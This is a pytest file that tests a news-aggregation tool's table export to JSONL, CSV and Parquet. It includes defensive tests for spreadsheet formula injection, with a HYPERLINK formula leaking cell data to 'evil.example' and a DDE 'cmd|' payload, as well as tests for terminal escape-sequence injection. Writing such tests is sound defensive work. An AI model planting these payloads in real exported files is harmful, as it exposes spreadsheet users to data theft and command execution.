from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from newsfold import export
from newsfold.records import NewsfoldError
from newsfold.store import Store
from tests import press

TABLES = [name for name in export.RECORDS if name != "revisions"]  # of these there are none here


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    filled = Store(press.database(tmp_path_factory.mktemp("export"), extra=1))
    with filled.transaction():
        units = [story.article_ids[0] for story in filled.stories_with(["id-courier", "id-2"])]
        filled.put_thread(1, "The ferry", list(filled.story_heads(units).values()))
    yield filled
    filled.close()


def written(store: Store, table: str, format: export.Format, *, raw: bool = False) -> bytes:
    out = io.BytesIO()
    count = export.write(export.rows(store, table), table, format, out, raw=raw)
    assert count == len(list(export.rows(store, table)))
    assert not out.closed
    return out.getvalue()


@pytest.mark.parametrize("table", TABLES)
def test_every_format_holds_the_same_rows(store: Store, table: str) -> None:
    rows = list(export.rows(store, table))
    lines = [json.loads(line) for line in written(store, table, "jsonl").decode().splitlines()]
    assert lines == rows and rows

    cells = list(csv.DictReader(io.StringIO(written(store, table, "csv", raw=True).decode(), newline="")))
    assert [list(row) for row in cells] == [list(row) for row in rows]
    for cell, row in zip(cells, rows, strict=True):
        for name, value in row.items():
            if isinstance(value, list | dict):
                assert json.loads(cell[name]) == value
            elif isinstance(value, bool):
                assert cell[name] == str(value).lower()
            else:
                assert cell[name] == ("" if value is None else str(value))

    parquet = pq.read_table(io.BytesIO(written(store, table, "parquet")))
    assert parquet.column_names == list(rows[0])
    assert parquet.num_rows == len(rows)
    for got, row in zip(parquet.to_pylist(), rows, strict=True):
        for name, value in row.items():
            if name.endswith(("_at", "_seen")) or name in ("event_start", "event_end", "start", "end"):
                value = value and value.replace("Z", "+00:00")
                got[name] = got[name] and got[name].isoformat()
            assert got[name] == value


def test_columns_that_are_promised(store: Store) -> None:
    story = next(iter(export.rows(store, "stories")))
    assert story["id"] == 1
    assert story["title"] == "Ferry with 212 aboard sinks off Port Halden"
    assert next(zip(story["article_ids"], story["article_keys"], strict=True)) == ("id-courier", "courier")
    article = next(iter(export.rows(store, "articles")))
    assert {"id", "key", "outlet", "title", "published_at", "text", "story_id"} <= article.keys()
    assert article["story_id"] == 1
    assert article["published_at"] == "2019-03-14T09:00:00Z"


def test_annotations_carry_their_words(store: Store) -> None:
    assert next(row["text"] for row in export.rows(store, "figures")) == "At least 14"
    assert "“The bow door was open when she left the quay,”" in {
        row["text"] for row in export.rows(store, "attributions")
    }
    assert {row["text"] for row in export.rows(store, "times")} == {"Thursday"}


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="there are no named pipes here")
def test_a_pipe_is_written_to_and_stays(store: Store, tmp_path: Path) -> None:
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    with ThreadPoolExecutor(1) as pool:
        received = pool.submit(pipe.read_bytes)
        assert export.write_file(export.rows(store, "stories"), "stories", "jsonl", pipe) == 2
        assert received.result(10) == written(store, "stories", "jsonl")
    assert pipe.is_fifo() and [path.name for path in tmp_path.iterdir()] == ["pipe"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"more")',
    "+1 555 0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    " =1+1",
    "\u200b\ufeff=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_takes_for_a_formula_is_quoted(text: str) -> None:
    row = {"id": text, "title": f"{text}\nand more", "score": -1.5, "aliases": [text], "inferred": True}
    (cells,), (raw,) = (_csv([row], raw=raw) for raw in (False, True))
    assert cells["id"] == f"'{text}" and cells["title"] == f"'{text}\nand more"
    assert (cells["score"], cells["inferred"], json.loads(cells["aliases"])) == ("-1.5", "true", [text])
    assert raw["id"] == text and raw["title"] == row["title"]


@pytest.mark.parametrize("text", ["", "A title = a promise", "1 - 0", "“-5 °C”", "3-1", "’tis", "'quoted'"])
def test_other_texts_are_not_quoted(text: str) -> None:
    (cells,) = _csv([{"id": text}], raw=False)
    assert cells["id"] == text


def _csv(rows: list[dict[str, object]], *, raw: bool) -> list[dict[str, str]]:
    """Rows of some table, written and read again, under the names of their own columns."""
    out = io.BytesIO()
    export.write(rows, "entities", "csv", out, raw=raw)
    _, *lines = csv.reader(io.StringIO(out.getvalue().decode(), newline=""))
    return [dict(zip(row, line, strict=True)) for row, line in zip(rows, lines, strict=True)]


class Screen(io.BytesIO):
    def isatty(self) -> bool:
        return True


def test_csv_on_a_terminal_does_not_steer_it() -> None:
    steers = "\x1b[2Jred \u202egnol\u009b31m"
    shown = Screen()
    export.write([{"id": steers}], "entities", "csv", shown, raw=True)
    assert shown.getvalue().decode().splitlines()[1] == "[2Jred gnol31m"
    (row,) = _csv([{"id": steers}], raw=True)
    assert row["id"] == steers


def test_json_lines_show_nothing_invisible() -> None:
    out = io.BytesIO()
    export.write([{"id": "a\u202e\x1b\u009b\U000e0041"}], "entities", "jsonl", out)
    assert out.getvalue().isascii() and json.loads(out.getvalue()) == {"id": "a\u202e\x1b\u009b\U000e0041"}


@pytest.mark.parametrize("format", ["csv", "parquet"])
def test_an_empty_table_still_has_its_columns(tmp_path: Path, format: export.Format) -> None:
    store = Store(tmp_path / "empty.db")
    out = written(store, "claims", format)
    store.close()
    if format == "csv":
        assert out.decode().strip().split(",") == list(export.table_columns("claims"))
    else:
        assert pq.read_table(io.BytesIO(out)).column_names == list(export.table_columns("claims"))


def test_an_unknown_table_is_named_with_what_there_is(store: Store) -> None:
    with pytest.raises(NewsfoldError, match="articles, stories"):
        next(export.rows(store, "verdicts"))


# ── words beside spans ────────────────────────────────────────────────────────────────────────────


def _spans(value: object) -> Iterator[dict[str, object]]:
    """Every object with a span and an article in a value."""
    if isinstance(value, dict):
        if "span" in value and "article_id" in value:
            yield value
        for part in value.values():
            yield from _spans(part)
    elif isinstance(value, list):
        for part in value:
            yield from _spans(part)


@pytest.mark.parametrize("table", ["claims", "differences", "account", "timeline", "series"])
def test_every_span_carries_its_words_where_they_are_asked_for(store: Store, table: str) -> None:
    texts = {row["id"]: row["text"] for row in export.rows(store, "articles")}
    bare, worded = (list(export.rows(store, table, with_text=with_text)) for with_text in (False, True))
    spans = list(_spans(worded))
    assert spans and len(spans) == len(list(_spans(bare)))
    for span in spans:
        place = span["span"]
        assert isinstance(place, dict)
        assert span["text"] == texts[span["article_id"]][place["start"] : place["end"]]
    assert not any("text" in span for span in _spans(bare))
    assert all(span.pop("text") for span in spans) and worded == bare


@pytest.mark.parametrize("format", ["jsonl", "csv", "parquet"])
@pytest.mark.parametrize("table", TABLES)
def test_every_format_holds_the_words(store: Store, table: str, format: export.Format) -> None:
    rows = list(export.rows(store, table, with_text=True))
    out = io.BytesIO()
    export.write(rows, table, format, out, raw=True, with_text=True)
    names = list(export.table_columns(table, with_text=True))
    assert names == list(rows[0])
    if format == "parquet":
        read = pq.read_table(io.BytesIO(out.getvalue())).to_pylist()
        assert [s["text"] for s in _spans(read)] == [s["text"] for s in _spans(rows)]
        assert list(read[0]) == names
    elif format == "csv":
        cells = list(csv.DictReader(io.StringIO(out.getvalue().decode(), newline="")))
        assert list(cells[0]) == names
    else:
        assert [json.loads(line) for line in out.getvalue().decode().splitlines()] == rows


def test_spans_of_a_row_s_own_article_have_columns_for_their_words(store: Store) -> None:
    said = [row for row in export.rows(store, "attributions", with_text=True) if row["cue"]]
    assert [row["cue_text"] for row in said] == ["said Ines"]
    copied = next(row for row in export.rows(store, "derivations", with_text=True) if row["from_agency"])
    assert copied["text"].startswith("PORT HALDEN (Meridian Wire)")
    assert "text" not in next(iter(export.rows(store, "derivations")))


def test_what_a_story_says_is_of_that_story(store: Store) -> None:
    for table in ("differences", "account", "timeline", "series", "origins"):
        assert {row["story_id"] for row in export.rows(store, table)} == {1}
    (aboard, died) = export.rows(store, "differences")
    assert (aboard["about"], died["updated"]) == ("people aboard", True)
    assert [value["text"] for value in aboard["values"]] == ["212", "230"]
    points = next(iter(export.rows(store, "series")))["points"]
    assert [point["outlet"] for point in points][:2] == ["Harbour Courier", "Northern Ledger"]
    assert next(row["text"] for row in export.rows(store, "mentions")) == "Port Halden"
